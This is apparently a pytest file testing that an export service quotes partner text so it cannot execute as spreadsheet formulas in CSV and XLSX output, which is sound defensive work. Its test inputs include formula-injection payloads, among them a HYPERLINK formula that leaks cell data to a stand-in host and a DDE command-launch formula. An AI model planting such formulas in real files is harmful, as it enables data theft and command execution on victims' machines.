"""Formula injection: partner text never runs as a spreadsheet formula in any CSV or XLSX Maxim writes."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from maxim.domain.spreadsheet import csv_cell, formula_like
from maxim.intake.parse import parse_report
from maxim.intake.statements import build_record
from maxim.reference import load_reference
from maxim.resolve.export import csv_line
from maxim.resolve.matches import MatchWriter
from maxim.share.service import build_package
from maxim.store.access import DataAccess
from tests.factories import person, report
from tests.share.helpers import SIGNER, as_, submit, unzip

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.mark.parametrize(
    "text", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1"]
)
def test_every_formula_start_is_quoted_in_a_csv_cell(text: str) -> None:
    assert formula_like(text)
    assert csv_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-3", "+44", "1.5e3", "-0.25", "Testperson Alpha", "", "a=b"])
def test_numbers_and_plain_text_are_left_as_they_are(text: str) -> None:
    assert csv_cell(text) == text
    assert csv_cell(7) == "7" and csv_cell(None) == ""


def _evil_package(access: DataAccess) -> dict[str, bytes]:
    rid = submit(access, report(entities=[person("p1", EVIL, role="suspect", phone=["07700 900123"])]))
    liaison = as_(access, "liz", "SCD6-MAXIM", "partner_liaison")
    return unzip(build_package(liaison, "NCA", report_ids=[rid], signer=SIGNER).zip_bytes)


def test_a_formula_for_a_name_is_text_in_the_package_workbook_and_numbers_stay_numbers(access: DataAccess) -> None:
    files = _evil_package(access)
    with zipfile.ZipFile(io.BytesIO(files["tables.xlsx"])) as book_zip:
        sheets = [n for n in book_zip.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and all(b"<f>" not in book_zip.read(n) for n in sheets), "no formula cell anywhere"
    book = load_workbook(io.BytesIO(files["tables.xlsx"]))
    people = book["Person"]
    header = [c.value for c in people[1]]
    cell = people.cell(row=2, column=header.index("name") + 1)
    assert (cell.value, cell.data_type) == (EVIL, "s")
    i2 = book["i2 entities"]
    labels = [c.value for c in i2["C"]]
    assert EVIL in labels
    items = book["items"]
    entities = items.cell(row=2, column=[c.value for c in items[1]].index("entities") + 1)
    assert entities.data_type == "n" and entities.value == 1


def test_a_formula_for_a_name_is_quoted_in_the_package_csv_files(access: DataAccess) -> None:
    files = _evil_package(access)
    people = list(csv.DictReader(io.StringIO(files["csv/Person.csv"].decode())))
    assert people[0]["name"] == f"'{EVIL}"
    assert people[0]["caption"] == f"'{EVIL}"
    nodes = list(csv.DictReader(io.StringIO(files["i2/entities.csv"].decode())))
    assert [n["Label"] for n in nodes if n["Schema"] == "Person"] == [f"'{EVIL}"]
    assert all(not v.startswith("=") for n in nodes for v in n.values())


def test_the_resolution_export_and_the_matches_file_quote_formulas(access: DataAccess, tmp_path: Path) -> None:
    line = csv_line(
        {
            "entity_id": "@m1",
            "canonical_id": "n1",
            "match_probability": 0.5,
            "origin": "model",
            "schema": "Person",
            "note": "=cmd|' /C calc'!A0",
        }
    )
    assert line == ["'@m1", "n1", "0.5000", "model", "Person", "'=cmd|' /C calc'!A0"]
    path = tmp_path / "matches.csv"
    record = build_record(
        parse_report(report(entities=[person("p1", EVIL)]), load_reference()), received_by="admin", now=access.clock()
    )
    with MatchWriter(access, path) as writer:
        writer.add(2, record)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert rows[1][2] == f"'{EVIL}"
